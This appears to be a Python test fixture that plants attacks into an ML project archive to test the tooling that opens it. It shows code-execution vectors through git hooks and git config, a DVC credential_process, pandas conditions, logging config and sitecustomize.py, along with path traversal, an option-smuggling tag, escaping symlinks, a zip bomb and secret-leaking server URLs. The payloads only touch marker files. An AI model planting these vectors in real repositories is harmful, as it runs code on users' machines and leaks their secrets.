"""A campaign whose author means harm: a finished one, with attacks in it.

It comes as an archive does, with a ``.git`` that a clone would not bring. An attack that succeeds
leaves a file in a folder of its own, or asks at an address that is nobody's.
"""

import io
import json
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import yaml
from support import merge

from tasks import campaign as at
from tasks.domain import digests
from tasks.domain.entries import GENESIS, Entry
from tasks.ledger.local import LocalLedger
from tasks.versions import git

Edit = Callable[[Entry], dict[str, Any]]

NOWHERE = "192.0.2"
"""Addresses for documentation (RFC 5737): nobody answers, and nobody should be asked."""
BOMB_BYTES = 1 << 30


@dataclass(frozen=True)
class Stranger:
    """The campaign, and where its attacks would show.

    Attributes
    ----------
    root : Path
    marks : Path
        A folder in which every attack that runs a command leaves a file.
    outside : Path
        A folder that nothing of the campaign may write to.
    pid : int
        A process that must live on.
    port : int
        Of a listener on loopback that must not be asked.
    """

    root: Path
    marks: Path
    outside: Path
    pid: int
    port: int

    def mark(self, name: str) -> str:
        """Give a shell command that leaves a file of that name."""
        return f"touch {self.marks / name}"


def arm(stranger: Stranger, names: Sequence[str]) -> None:
    """Put attacks into a finished campaign, and commit them as its author would."""
    for name, plant in ATTACKS.items():
        if name in names:
            plant(stranger)
    tracked = (".dvc", "suites", at.LEDGER, at.PARAMS, at.PRIVATE)
    there = [name for name in tracked if (stranger.root / name).exists()]
    git.run(stranger.root, "add", "--all", "--force", "--", *there)
    git.run(stranger.root, "commit", "--quiet", "--allow-empty", "--message", "Nothing to see")
    # What follows would run at every call of git, this one's too.
    if GIT in names:
        _git(stranger)


def rechain(root: Path, edit: Edit) -> None:
    """Write the ledger anew with other bodies, so that its chain is whole again."""
    prev = GENESIS
    for old in LocalLedger(root / at.LEDGER).entries():
        new = replace(old, prev=prev, body=edit(old))
        (root / at.LEDGER / f"{old.seq:08d}.json").write_bytes(new.content)
        prev = new.digest


def keep(root: Path, content: bytes) -> dict[str, Any]:
    """Lay bytes into DVC's cache; give what the ledger says of them."""
    digest = digests.of_bytes(content)
    path = root / ".dvc/cache/files/md5" / digest.md5[:2] / digest.md5[2:]
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    return digest.to_body()


def _remote(stranger: Stranger) -> None:
    """Set a DVC remote whose profile gets its credentials from a shell command."""
    command = stranger.mark("remote")
    (stranger.root / "aws.config").write_text(
        f"[profile author]\ncredential_process = sh -c '{command}'\n"
    )
    (stranger.root / ".dvc/config").write_text(
        "[core]\n    analytics = false\n    remote = storage\n"
        f"['remote \"storage\"']\n    url = s3://author/dvc\n    endpointurl = http://{NOWHERE}.1\n"
        f"    configpath = {stranger.root / 'aws.config'}\n    profile = author\n"
    )


def _suites(stranger: Stranger) -> None:
    """Expect things under conditions that are Python, in all forms that pandas would run."""
    condition = f"@pd.io.common.os.system({stranger.mark('suites')!r}) == 0"
    path = stranger.root / "suites/pool.json"
    suite = json.loads(path.read_text())
    for form in ({"condition_parser": "pandas"}, {"condition_parser": "pandas", "engine": "x"}):
        kwargs = {"column": "height", "row_condition": condition, **form}
        more = {"type": "expect_column_values_to_not_be_null", "kwargs": kwargs}
        suite["expectations"].append(more)
    passed = {"type": "pass_through", "filter_type": "pass_through", "condition": condition}
    kwargs = {"column": "girth", "row_condition": passed, "condition_parser": "pandas"}
    suite["expectations"].append({"type": "expect_column_values_to_not_be_null", "kwargs": kwargs})
    path.write_text(json.dumps(suite))


def _params(stranger: Stranger) -> None:
    """Name a vendor and an MLflow server that would be told this user's secrets."""
    path = stranger.root / at.PARAMS
    options = {"url": f"http://{NOWHERE}.2", "attempts": 1}
    changes = {
        "vendor": {"name": "label_studio", "options": options},
        "tracking": {"uri": f"http://{NOWHERE}.3"},
    }
    # Not as a person changes their own: nothing of it was confirmed.
    path.write_text(yaml.safe_dump(merge(yaml.safe_load(path.read_text()), changes)))


def _ledger(stranger: Stranger) -> None:
    """Chain entries anew that name paths, tags and digests which are none."""

    def edit(entry: Entry) -> dict[str, Any]:
        body = json.loads(json.dumps(entry.body))
        if entry.kind == "stage" and body["stage"] == "train" and entry.round == 1:
            where = f"data/../../../../../../../..{stranger.outside}/escaped"
            body["inputs"][where] = keep(stranger.root, b"escaped\n")
        if entry.kind == "snapshot" and entry.round == 0:
            body["tag"] = f"--output={stranger.outside}/by-git"
        if entry.kind == "stage" and body["stage"] == "evaluate" and entry.round == 2:
            body["outputs"][at.LABELS] = {"sha256": "0" * 64, "md5": "../../../x", "size": 1}
        if entry.kind == "stage" and body["stage"] == "score" and entry.round == 2:
            body["inputs"][at.QUERY_MODEL] = keep(stranger.root, _bomb())
        return dict(body)

    rechain(stranger.root, edit)


def _outputs(stranger: Stranger) -> None:
    """Let places of output lead out of the campaign."""
    (stranger.root / at.REPORT).unlink(missing_ok=True)
    (stranger.root / at.REPORT).symlink_to(stranger.outside / "report.html")
    (stranger.root / "data_docs").symlink_to(stranger.outside)


def _names(stranger: Stranger) -> None:
    """Name files like options, in several lines, and in colours of a terminal."""
    for name in ("--output=x", "two\nlines", "\x1b[31mred"):
        (stranger.root / at.LEDGER / name).write_text("{}")


def _work_tree(stranger: Stranger) -> None:
    """Lay down a model that unfolds to a gigabyte, and JSON that nests without end."""
    _write(stranger.root / at.MODEL, _bomb())
    _write(stranger.root / at.METRICS, b"[" * 200_000)
    _write(stranger.root / at.HISTORY, b'{"a":' * 200_000)


def _folder(stranger: Stranger) -> None:
    """Lay down what libraries would read, or import, from the folder that the user is in."""
    command = stranger.mark("folder")
    logging = "version: 1\nhandlers:\n  mine:\n    (): os.system\n    command: {command}\n"
    module = f"import os\nos.system({command!r})\n"
    files = {
        "prefect.toml": "[logging]\nconfig_path = 'logging.yml'\n",
        ".env": f"PREFECT_API_URL=http://{NOWHERE}.4/api\n",
        "pyproject.toml": "[tool.prefect.logging]\nconfig_path = 'logging.yml'\n",
        "logging.yml": logging.format(command=command),
        "matplotlibrc": "backend: module://flows\ntext.usetex: true\n",
        **dict.fromkeys(("sitecustomize.py", "pandas.py", "flows.py", "tasks.py"), module),
    }
    for name, text in files.items():
        (stranger.root / name).write_text(text)


def _git(stranger: Stranger) -> None:
    """Let the repository's own configuration run programs."""
    command = stranger.mark("git")
    hooks = stranger.root / ".git/hooks"
    hooks.mkdir(exist_ok=True)
    for name in ("post-checkout", "pre-commit", "post-index-change", "reference-transaction"):
        (hooks / name).write_text(f"#!/bin/sh\n{command}-hook\n")
        (hooks / name).chmod(0o755)
    settings = {
        "core.fsmonitor": f"{command}-fsmonitor; false",
        "diff.external": f"{command}-diff",
        "diff.marked.textconv": f"{command}-textconv; cat",
        "filter.marked.clean": f"{command}-clean; cat",
        "filter.marked.smudge": f"{command}-smudge; cat",
        "core.sshCommand": f"{command}-ssh",
        "core.pager": f"{command}-pager",
        "protocol.ext.allow": "always",
        "remote.origin.url": f"ext::sh -c {command.replace(' ', '% ')}-ext",
        "remote.origin.uploadpack": f"{command}-uploadpack",
    }
    for key, value in settings.items():
        git.run(stranger.root, "config", key, value)
    (stranger.root / ".gitattributes").write_text("* filter=marked diff=marked\n")


def _machine(stranger: Stranger) -> None:
    """Bring what would be taken for this machine's own: a server's address and process."""
    home = stranger.root / at.PRIVATE / "prefect"
    home.mkdir(parents=True, exist_ok=True)
    record = {"address": f"http://127.0.0.1:{stranger.port}/api", "pid": stranger.pid}
    (home / "server.json").write_text(json.dumps(record))


def _bomb() -> bytes:
    """Make an archive of a megabyte that unfolds to a gigabyte, as a model's file."""
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("schema.json", json.dumps({"__class__": "ndarray", "__module__": "numpy"}))
        with archive.open("0" * 64 + ".npy", "w", force_zip64=True) as file:
            for _ in range(BOMB_BYTES >> 20):
                file.write(bytes(1 << 20))
    return sink.getvalue()


def _write(path: Path, content: bytes) -> None:
    path.unlink(missing_ok=True)
    path.write_bytes(content)


ATTACKS: dict[str, Callable[[Stranger], None]] = {
    "remote": _remote,
    "suites": _suites,
    "params": _params,
    "ledger": _ledger,
    "outputs": _outputs,
    "names": _names,
    "machine": _machine,
    "work_tree": _work_tree,
    "folder": _folder,
}
"""By what they turn against whoever opens the campaign."""
GIT = "git"
"""An attack as well: the repository's own configuration."""
